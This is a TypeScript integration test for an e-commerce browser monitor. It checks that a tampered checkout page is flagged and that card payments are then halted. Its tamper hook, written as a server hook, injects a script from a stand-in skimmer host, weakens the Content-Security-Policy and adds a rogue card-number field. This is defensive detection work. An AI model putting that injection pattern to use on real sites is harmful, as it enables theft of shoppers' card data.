import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp } from '../../test/test-app.ts';
import { createTestDatabase } from '../../test/test-database.ts';
import { DEMO_PASSWORD } from '../demo/demo-credentials.ts';
import { seedDemo } from '../demo/seed-demo.ts';
import type { MonitorProfile } from '../domains/monitor/monitor.tables.ts';
import type { Database } from '../platform/db/database.ts';
import { withPlatform, withTenant } from '../platform/db/tenant-scope.ts';
import type { RouteModule } from '../platform/http/app.ts';
import { createLogger } from '../platform/log/logger.ts';
import { ROUTES } from '../web/routes.ts';
import { launchMonitorBrowser } from './monitor-browser.ts';
import { type MonitorRunSettings, runMonitorWalk } from './monitor-walk.run.ts';
import type { SessionCache } from './shop-walk.ts';
import { contextOptions, ORDINARY_BROWSER_INIT } from './walk-profiles.ts';

/**
 * The monitor against a running Oroshi with the demo seeded: a walk of a shop produces a snapshot
 * of every page up to the confirmation; a second walk of the unchanged site is clean and raises
 * nothing; a second app instance on the same database that injects a script, weakens the CSP
 * and shows a card field (server-side tampering) is caught as critical browser_monitor events and
 * the shop's card payments stop.
 */

const SHOP = 'kaoru-haircare';
const log = createLogger('silent');
let database: Database;
let app: FastifyInstance;
let tampered: FastifyInstance;
let tenantId: string;
const sessions: SessionCache = new Map();

async function listen(instance: FastifyInstance): Promise<string> {
  await instance.listen({ port: 0, host: '127.0.0.1' });
  const address = instance.server.address();
  return `http://127.0.0.1:${typeof address === 'object' && address ? address.port : 0}`;
}

const tamper: RouteModule = (instance) => {
  instance.addHook('onSend', async (request, reply, payload) => {
    if (typeof payload !== 'string' || !String(reply.getHeader('content-type') ?? '').includes('text/html')) return payload;
    const path = request.url.split('?')[0] ?? '';
    if (path.endsWith('/checkout') && request.method === 'GET') {
      reply.header('content-security-policy', `${String(reply.getHeader('content-security-policy'))}; script-src 'unsafe-inline' https://cdn.evil.example`.replace(/script-src [^;]*;/, ''));
      return payload.replace('</body>', '<script src="https://cdn.evil.example/skim.js"></script></body>');
    }
    if (path.endsWith('/checkout') && request.method === 'POST') {
      return payload.replace('</main>', '<form method="post" action="/collect"><input name="cardnumber" autocomplete="cc-number" maxlength="19"></form></main>');
    }
    return payload;
  });
};

let platformUrl: string;
let tamperedUrl: string;

function settings(url: string): MonitorRunSettings {
  return {
    database,
    log,
    config: { BASE_DOMAIN: undefined, pathTenants: true, baseOrigin: url, CHROMIUM_PATH: '/usr/bin/chromium', APP_ENV: 'test' },
    platformUrl: url,
    credentials: { email: 'monitor@minase-shoji.example', password: DEMO_PASSWORD },
    sessions,
    autoApproveFirstBaseline: true,
  };
}

beforeAll(async () => {
  database = await createTestDatabase();
  const built = await createTestApp(database);
  app = built.app;
  await seedDemo(database, built.platform.secrets, log);
  platformUrl = await listen(app);
  tampered = (await createTestApp(database, { routes: [tamper, ...ROUTES] })).app;
  tamperedUrl = await listen(tampered);
  tenantId = (await withPlatform(database, (tx) => tx.selectFrom('tenants').select('id').where('slug', '=', SHOP).executeTakeFirstOrThrow())).id;
}, 120_000);

afterAll(async () => {
  await app?.close();
  await tampered?.close();
  await database?.close();
});

const openEvents = () => withTenant(database, tenantId, (tx) => tx.selectFrom('security_events').select(['kind', 'severity', 'layer', 'page', 'occurrences']).where('layer', '=', 'browser_monitor').execute());

describe('browser monitor walk', () => {
  it('walks sign-in, product, cart, checkout and confirmation and records what the browser received', async () => {
    const first = await runMonitorWalk(settings(platformUrl), { tenantId, profile: 'desktop', reason: 'test' });
    expect(first.error).toBeNull();
    const walk = await withTenant(database, tenantId, (tx) => tx.selectFrom('monitor_walks').selectAll().where('id', '=', first.walkId).executeTakeFirstOrThrow());
    const snapshot = typeof walk.snapshot === 'string' ? JSON.parse(walk.snapshot) : walk.snapshot;
    expect(snapshot.pages.map((p: { step: string }) => p.step)).toEqual(['platform-sign-in', 'shop-product', 'cart', 'checkout', 'checkout-confirm', 'staff-sign-in']);
    const checkout = snapshot.pages.find((p: { step: string }) => p.step === 'checkout');
    expect(checkout.headers['content-security-policy']).toContain("default-src 'none'");
    expect(checkout.scripts.length).toBeGreaterThan(0);
    expect(checkout.scripts.every((s: { sha384: string }) => s.sha384.startsWith('sha384-'))).toBe(true);
    // The shop's stylesheet, by its content-hashed URL and the hash of the bytes received.
    expect(checkout.stylesheets).toContainEqual({ href: expect.stringMatching(/^\/assets\/css\/app\.[0-9a-f]+\.css$/), sha384: expect.stringMatching(/^sha384-/) });
    expect(checkout.forms.some((f: { action: string }) => f.action === `/s/${SHOP}/checkout`)).toBe(true);
    expect(checkout.requestOrigins).toEqual(['self']);
    expect(snapshot.pages.flatMap((p: { cardInputs: unknown[] }) => p.cardInputs)).toEqual([]);
    // The first walk became the (auto-approved in this test) baseline.
    expect(first.judgement?.proposedBaselineId).toBeTruthy();
    expect(walk.outcome).toBe('clean');
    console.info(`monitor walk (desktop, first, signs in): ${first.durationMs} ms`);
  }, 90_000);

  it('finds the unchanged site clean on the next walks and raises nothing', async () => {
    for (const profile of ['desktop', 'mobile', 'mobile'] as MonitorProfile[]) {
      const again = await runMonitorWalk(settings(platformUrl), { tenantId, profile, reason: 'test' });
      expect(again.error).toBeNull();
      expect(again.judgement?.diff.deviations).toEqual([]);
      expect(again.judgement?.outcome).toBe('clean');
      console.info(`monitor walk (${profile}): ${again.durationMs} ms`);
    }
    expect(await openEvents()).toEqual([]);
  }, 120_000);

  it('catches a tampered instance: injected script, weakened CSP and a card field are critical and stop cards', async () => {
    const result = await runMonitorWalk(settings(tamperedUrl), { tenantId, profile: 'desktop', reason: 'test' });
    expect(result.judgement?.outcome).toBe('deviation');
    const events = await openEvents();
    const kinds = events.map((e) => `${e.severity}:${e.kind}:${e.page}`);
    expect(kinds).toContain('critical:walk.script-added:checkout');
    expect(kinds).toContain('critical:walk.csp-weakened:checkout');
    expect(kinds).toContain('critical:walk.card-input:checkout-confirm');
    const kill = await withTenant(database, tenantId, (tx) => tx.selectFrom('card_kill_switches').select(['engaged', 'automatic']).where('tenant_id', '=', tenantId).executeTakeFirst());
    expect(kill).toMatchObject({ engaged: true, automatic: true });
  }, 90_000);

  it('looks like an ordinary browser: no HeadlessChrome in the user agent, navigator.webdriver false', async () => {
    const browser = await launchMonitorBrowser('/usr/bin/chromium');
    try {
      for (const profile of ['desktop', 'mobile'] as MonitorProfile[]) {
        const context = await browser.newContext(contextOptions(profile, browser));
        await context.addInitScript(ORDINARY_BROWSER_INIT);
        const page = await context.newPage();
        await page.goto(`${platformUrl}/account/sign-in`);
        const seen = (await page.evaluate('({ ua: navigator.userAgent, webdriver: navigator.webdriver, mobile: /Mobile/.test(navigator.userAgent) })')) as { ua: string; webdriver: boolean; mobile: boolean };
        expect(seen.ua).not.toMatch(/Headless/i);
        expect(seen.webdriver).toBe(false);
        expect(seen.mobile).toBe(profile === 'mobile');
        await context.close();
      }
    } finally {
      await browser.close();
    }
  }, 30_000);
});
